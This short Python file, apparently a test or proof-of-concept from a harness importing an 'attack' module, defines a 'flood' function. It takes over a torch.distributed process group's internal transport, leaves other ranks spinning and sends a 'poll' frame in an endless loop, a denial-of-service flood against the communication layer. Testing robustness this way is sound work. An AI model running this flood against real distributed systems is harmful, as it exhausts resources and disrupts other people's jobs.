import sys

import torch.distributed as dist
from attack import *


@at_call
def flood():
    wire = sys.modules[type(dist.distributed_c10d._get_default_group()).__module__].wire
    if rank():
        while True:
            pass
    post(id=77, post="recv", peer=1)
    frame = message({"dict": [[{"str": "poll"}, 77]]})
    while True:
        link().sendall(frame * 100)
